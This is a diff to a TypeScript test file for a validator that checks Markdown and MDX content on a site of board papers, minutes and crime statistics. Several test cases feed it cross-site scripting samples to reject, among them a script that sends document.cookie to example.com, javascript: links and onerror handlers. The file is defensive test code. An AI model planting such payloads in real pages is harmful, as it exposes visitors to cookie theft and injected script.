@@ -10,11 +10,11 @@ import { validateContent } from '../../src/lib/validate-content.ts';
 import { validateSite } from '../../src/lib/validate-site.ts';
 import { dataWithLine, makeSite, validFiles, validInspection, withLine } from '../helpers/content-fixture.ts';
 
-const paper = 'papers/2018-05-10-a-paper.mdx';
-const meeting = 'meetings/test-board-2018-05-10.mdx';
+const paper = 'papers/2018-05-10-a-paper.md';
+const meeting = 'meetings/test-board-2018-05-10.md';
 const decision = 'decisions/2018-05-10-a-decision.yaml';
 const board = 'boards/test-board.yaml';
-const inspection = 'inspections/test-inspection-2018.mdx';
+const inspection = 'inspections/test-inspection-2018.md';
 const paperFile = `content/${paper}`;
 const meetingFile = `content/${meeting}`;
 const invalidData = path.resolve(import.meta.dirname, '../fixtures/data/invalid/indicators');
@@ -26,6 +26,12 @@ const paperBody = (body: string) => withLine(paper, '\nText.\n', `\n${body}\n`);
 const meetingBody = (body: string) => ({ [meeting]: `${validFiles[meeting]}\n## Minutes\n\n${body}\n` });
 /** The inspection fixture (added to the site) with its body text (line 12) replaced. */
 const inspectionBody = (body: string) => withLine(inspection, '\nText.\n', `\n${body}\n`);
+
+// The same files written as MDX (.mdx is still read, under the MDX rules).
+const asMdx = (file: string) => file.replace(/\.md$/, '.mdx');
+const mdx = (files: Record<string, string | null>) =>
+  Object.fromEntries(Object.entries(files).flatMap(([file, text]) => (file.endsWith('.md') ? [[file, null], [asMdx(file), text]] : [[file, text]])));
+const mdxPaperFile = asMdx(paperFile);
 
 interface Expected {
   file: string;
@@ -96,18 +102,18 @@ const cases: [string, Record<string, string | null>, Expected][] = [
     { file: 'data/indicators/all-recorded-crime.yaml', line: 31, field: 'related[0]', message: /^"no-such-dataset" is not an indicator dataset/, fix: /for example ksi-by-year/ }],
 
   // Duplicate ids and slugs
-  ['two papers with the same file name in different folders', { 'papers/2018/2018-05-10-a-paper.mdx': validFiles[paper]! },
-    { file: 'content/papers/2018/2018-05-10-a-paper.mdx', field: '(file name)', message: /^repeats the id "2018-05-10-a-paper" of content\/papers\/2018-05-10-a-paper\.mdx$/, fix: /give one of the two files a different name/ }],
+  ['two papers with the same file name in different folders', { 'papers/2018/2018-05-10-a-paper.md': validFiles[paper]! },
+    { file: 'content/papers/2018/2018-05-10-a-paper.md', field: '(file name)', message: /^repeats the id "2018-05-10-a-paper" of content\/papers\/2018-05-10-a-paper\.md$/, fix: /give one of the two files a different name/ }],
   ['two datasets with the same id', { 'data/indicators/more/ksi-by-year.yaml': dataWithLine('ksi-by-year', 'title:', 'title:')['data/indicators/ksi-by-year.yaml']! },
     { file: 'data/indicators/more/ksi-by-year.yaml', field: '(file name)', message: /^repeats the id "ksi-by-year"/, fix: /different name/ }],
-  ['two papers in the same agenda slot', { 'papers/2018-05-10-b-paper.mdx': validFiles[paper]! },
-    { file: 'content/papers/2018-05-10-b-paper.mdx', line: 5, field: 'agendaItem', message: /^"1" is already used at this meeting by content\/papers\/2018-05-10-a-paper\.mdx$/, fix: /use the next free agenda item number/ }],
+  ['two papers in the same agenda slot', { 'papers/2018-05-10-b-paper.md': validFiles[paper]! },
+    { file: 'content/papers/2018-05-10-b-paper.md', line: 5, field: 'agendaItem', message: /^"1" is already used at this meeting by content\/papers\/2018-05-10-a-paper\.md$/, fix: /use the next free agenda item number/ }],
   ['an agenda item number used twice', withLine(meeting, 'sources:', '  - item: "1"\n    title: Any other business\nsources:'),
     { file: meetingFile, line: 11, field: 'agenda[1].item', message: /^repeats item number "1"$/, fix: /give each agenda item its own number/ }],
   ['a board file in the wrong format', { 'boards/extra.json': '{}' },
     { file: 'content/boards/extra.json', field: '(file name)', message: /^is not a \.yaml file$/, fix: /rename it to end in \.yaml, or move it out of content\/boards/ }],
-  ['a file name that is not an id', { 'papers/My Paper.mdx': validFiles[paper]! },
-    { file: 'content/papers/My Paper.mdx', field: '(file name)', message: /^"My Paper" is not a valid id$/, fix: /lower-case letters, digits and hyphens/ }],
+  ['a file name that is not an id', { 'papers/My Paper.md': validFiles[paper]! },
+    { file: 'content/papers/My Paper.md', field: '(file name)', message: /^"My Paper" is not a valid id$/, fix: /lower-case letters, digits and hyphens/ }],
 
   // Impossible dates and periods
   ['the 40th day of the 13th month', withLine(paper, 'date: 2018-05-10', 'date: 2018-13-40'),
@@ -127,37 +133,63 @@ const cases: [string, Record<string, string | null>, Expected][] = [
   ['the same period twice in one series', dataWithLine('all-recorded-crime', 'period: 2016-03', 'period: 2015-03'),
     { file: 'data/indicators/all-recorded-crime.yaml', line: 17, field: 'observations[1].period', message: /^is "2015-03"$/, fix: /must not repeat a period in one series: observations\[0\]/ }],
 
-  // MDX that does not parse, or that would run code
-  ['an unclosed tag', paperBody('<IndicatorChart id="all-recorded-crime">'),
-    { file: paperFile, line: 19, field: '(body)', message: /^cannot be read: Expected a closing tag for <IndicatorChart>/, fix: /close every tag/ }],
-  ['a stray "<" before a digit', paperBody('Fewer than <5% of cases.'),
-    { file: paperFile, line: 19, field: '(body)', message: /^cannot be read/, fix: /write \\< or \\\{/ }],
-  ['an import line', paperBody('import Chart from "../../src/components/Chart.astro";'),
-    { file: paperFile, line: 19, field: '(body)', message: /^has an "import" line, which runs code when the site is built$/, fix: /delete the line/ }],
-  ['an export line', paperBody('export const figure = 42;'),
-    { file: paperFile, line: 19, field: '(body)', message: /^has an "export" line/, fix: /delete the line/ }],
-  ['a JavaScript expression in the text', paperBody('Recorded crime rose by {(5737 - 3968) / 3968 * 100}%.'),
-    { file: paperFile, line: 19, field: '(body)', message: /^has \{…\}, which MDX runs as JavaScript$/, fix: /remove the braces; to show a brace as text, write \\\{/ }],
-  ['a <script> element', paperBody('<script>fetch("https://example.com/?" + document.cookie)</script>'),
+  // MDX that does not parse, or that would run code (an .mdx file)
+  ['an unclosed tag', mdx(paperBody('<IndicatorChart id="all-recorded-crime">')),
+    { file: mdxPaperFile, line: 19, field: '(body)', message: /^cannot be read: Expected a closing tag for <IndicatorChart>/, fix: /close every tag/ }],
+  ['a stray "<" before a digit', mdx(paperBody('Fewer than <5% of cases.')),
+    { file: mdxPaperFile, line: 19, field: '(body)', message: /^cannot be read/, fix: /write \\< or \\\{/ }],
+  ['an import line', mdx(paperBody('import Chart from "../../src/components/Chart.astro";')),
+    { file: mdxPaperFile, line: 19, field: '(body)', message: /^has an "import" line, which runs code when the site is built$/, fix: /delete the line/ }],
+  ['an export line', mdx(paperBody('export const figure = 42;')),
+    { file: mdxPaperFile, line: 19, field: '(body)', message: /^has an "export" line/, fix: /delete the line/ }],
+  ['a JavaScript expression in the text', mdx(paperBody('Recorded crime rose by {(5737 - 3968) / 3968 * 100}%.')),
+    { file: mdxPaperFile, line: 19, field: '(body)', message: /^has \{…\}, which MDX runs as JavaScript$/, fix: /remove the braces; to show a brace as text, write \\\{/ }],
+  ['a <script> element', mdx(paperBody('<script>fetch("https://example.com/?" + document.cookie)</script>')),
+    { file: mdxPaperFile, line: 19, field: '(body)', message: /^has <script>, which could run code/, fix: /^remove it/ }],
+  ['an <iframe>', mdx(paperBody('<iframe src="https://example.com/"></iframe>')),
+    { file: mdxPaperFile, line: 19, field: '(body)', message: /^has <iframe>/, fix: /^remove it/ }],
+  ['a <style> element', mdx(paperBody('<style>@import url(https://example.com/x.css);</style>')),
+    { file: mdxPaperFile, line: 19, field: '(body)', message: /^has <style>/, fix: /^remove it/ }],
+  ['an on…= event handler', mdx(paperBody('<IndicatorChart id="all-recorded-crime" onMouseOver="alert(1)" />')),
+    { file: mdxPaperFile, line: 19, field: '(body)', message: /^has an event handler onMouseOver= on <IndicatorChart>/, fix: /^remove onMouseOver=…$/ }],
+  ['a javascript: link', mdx(paperBody('[Read the report](javascript:alert(document.domain))')),
+    { file: mdxPaperFile, line: 19, field: '(body)', message: /^has a javascript: address/, fix: /link to an https:\/\/ address or a page of this site/ }],
+  ['an HTML tag other than the allowed component', mdx(paperBody('<div class="warning">Take care.</div>')),
+    { file: mdxPaperFile, line: 19, field: '(body)', message: /^has the tag <div>; the only tag content may use is <IndicatorChart>$/, fix: /use Markdown instead/ }],
+  ['a component the project does not provide', mdx(paperBody('<Chart data="crime" />')),
+    { file: mdxPaperFile, line: 19, field: '(body)', message: /^has the tag <Chart>/, fix: /use Markdown instead/ }],
+  ['a chart id written as code', mdx(paperBody('<IndicatorChart id={"all-recorded" + "-crime"} />')),
+    { file: mdxPaperFile, line: 19, field: '(body)', message: /^has id=\{…\} on <IndicatorChart>, which MDX runs as JavaScript$/, fix: /write the value in quotes/ }],
+  ['a <script> in a meeting\'s minutes', mdx(meetingBody('<script src="https://example.com/x.js"></script>')),
+    { file: asMdx(meetingFile), line: 17, field: '(body)', message: /^has <script>/, fix: /^remove it/ }],
+  ['an expression in an inspection report', mdx({ ...validInspection, ...inspectionBody('Graded {"good"}.') }),
+    { file: asMdx(`content/${inspection}`), line: 12, field: '(body)', message: /^has \{…\}/, fix: /remove the braces/ }],
+
+  // Markdown that carries HTML (a .md file: Markdown would pass HTML straight into the page)
+  ['a <script> element in Markdown', paperBody('<script>fetch("https://example.com/?" + document.cookie)</script>'),
     { file: paperFile, line: 19, field: '(body)', message: /^has <script>, which could run code/, fix: /^remove it/ }],
-  ['an <iframe>', paperBody('<iframe src="https://example.com/"></iframe>'),
+  ['an <iframe> in Markdown', paperBody('<iframe src="https://example.com/"></iframe>'),
     { file: paperFile, line: 19, field: '(body)', message: /^has <iframe>/, fix: /^remove it/ }],
-  ['a <style> element', paperBody('<style>@import url(https://example.com/x.css);</style>'),
+  ['a <style> element in Markdown', paperBody('<style>@import url(https://example.com/x.css);</style>'),
     { file: paperFile, line: 19, field: '(body)', message: /^has <style>/, fix: /^remove it/ }],
-  ['an on…= event handler', paperBody('<IndicatorChart id="all-recorded-crime" onMouseOver="alert(1)" />'),
-    { file: paperFile, line: 19, field: '(body)', message: /^has an event handler onMouseOver= on <IndicatorChart>/, fix: /^remove onMouseOver=…$/ }],
-  ['a javascript: link', paperBody('[Read the report](javascript:alert(document.domain))'),
+  ['an HTML tag in a line of Markdown', paperBody('Take <b onclick="alert(1)">care</b>.'),
+    { file: paperFile, line: 19, field: '(body)', message: /^has the HTML tag <b>; Markdown content may not use HTML$/, fix: /use Markdown instead .*write \\</ }],
+  ['an HTML comment in Markdown', paperBody('<!-- not for the public: figures to follow -->'),
+    { file: paperFile, line: 19, field: '(body)', message: /^has an HTML comment, which would be published in the page$/, fix: /^remove it/ }],
+  ['a javascript: link in Markdown', paperBody('[Read the report](javascript:alert(document.domain))'),
     { file: paperFile, line: 19, field: '(body)', message: /^has a javascript: address/, fix: /link to an https:\/\/ address or a page of this site/ }],
-  ['an HTML tag other than the allowed component', paperBody('<div class="warning">Take care.</div>'),
-    { file: paperFile, line: 19, field: '(body)', message: /^has the tag <div>; the only tag content may use is <IndicatorChart>$/, fix: /use Markdown instead/ }],
-  ['a component the project does not provide', paperBody('<Chart data="crime" />'),
-    { file: paperFile, line: 19, field: '(body)', message: /^has the tag <Chart>/, fix: /use Markdown instead/ }],
-  ['a chart id written as code', paperBody('<IndicatorChart id={"all-recorded" + "-crime"} />'),
-    { file: paperFile, line: 19, field: '(body)', message: /^has id=\{…\} on <IndicatorChart>, which MDX runs as JavaScript$/, fix: /write the value in quotes/ }],
-  ['a <script> in a meeting\'s minutes', meetingBody('<script src="https://example.com/x.js"></script>'),
+  ['a chart inside a line of text', paperBody('Recorded crime <IndicatorChart id="all-recorded-crime" /> rose.'),
+    { file: paperFile, line: 19, field: '(body)', message: /^has a chart inside a line of text$/, fix: /on a line of its own/ }],
+  ['a chart with an attribute it does not take', paperBody('<IndicatorChart id="all-recorded-crime" onMouseOver="alert(1)" />'),
+    { file: paperFile, line: 19, field: '(body)', message: /^has a chart tag that cannot be read$/, fix: /only an id, ending "\/>"/ }],
+  ['a chart without an id', paperBody('<IndicatorChart />'),
+    { file: paperFile, line: 19, field: '(body)', message: /^<IndicatorChart> has no id$/, fix: /add id="…"/ }],
+  ['a chart naming no dataset', paperBody('<IndicatorChart id="no-such-dataset" />'),
+    { file: paperFile, line: 19, field: 'IndicatorChart id', message: /^"no-such-dataset" is not an indicator/, fix: /use the file name \(without \.yaml\) of a dataset/ }],
+  ['a <script> in a meeting\'s minutes in Markdown', meetingBody('<script src="https://example.com/x.js"></script>'),
     { file: meetingFile, line: 17, field: '(body)', message: /^has <script>/, fix: /^remove it/ }],
-  ['an expression in an inspection report', { ...validInspection, ...inspectionBody('Graded {"good"}.') },
-    { file: `content/${inspection}`, line: 12, field: '(body)', message: /^has \{…\}/, fix: /remove the braces/ }],
+  ['raw HTML in an inspection report in Markdown', { ...validInspection, ...inspectionBody('<img src="x" onerror="alert(1)">') },
+    { file: `content/${inspection}`, line: 12, field: '(body)', message: /^has the HTML tag <img>/, fix: /use Markdown instead/ }],
 
   // Protective markings above OFFICIAL (production rule; npm run check, npm run build and astro build are production)
   ['a paper marked OFFICIAL-SENSITIVE', withLine(paper, 'classification: OFFICIAL', 'classification: OFFICIAL-SENSITIVE'),
@@ -221,7 +253,7 @@ describe('every problem of a run, reported together', () => {
       ...withLine(paper, 'title: A paper\n', ''),
       ...meetingBody('<iframe src="https://example.com/"></iframe>'),
       ...validInspection,
-      ...inspectionBody('export const x = 1'),
+      ...inspectionBody('<!-- draft -->'),
       ...withLine(decision, 'date: 2018-05-10', 'date: 2018-02-30'),
       ...dataWithLine('all-recorded-crime', 'value: 4078', 'value: -4078'),
       'data/indicators/percent-over-100.yaml': invalidDataset('percent-over-100.yaml'),
@@ -230,9 +262,9 @@ describe('every problem of a run, reported together', () => {
     const report = formatReport(problems);
     const lines = [
       'content/decisions/2018-05-10-a-decision.yaml:2  date  is "2018-02-30" — must be a real calendar date',
-      'content/inspections/test-inspection-2018.mdx:12  (body)  has an "export" line',
-      'content/meetings/test-board-2018-05-10.mdx:17  (body)  has <iframe>',
-      'content/papers/2018-05-10-a-paper.mdx:2  title  is missing — add it: every paper needs "title"',
+      'content/inspections/test-inspection-2018.md:12  (body)  has an HTML comment',
+      'content/meetings/test-board-2018-05-10.md:17  (body)  has <iframe>',
+      'content/papers/2018-05-10-a-paper.md:2  title  is missing — add it: every paper needs "title"',
       'data/indicators/all-recorded-crime.yaml:16  observations[0].value  is -4078',
       'data/indicators/percent-over-100.yaml:13  observations[1].value  is 195.6',
     ];
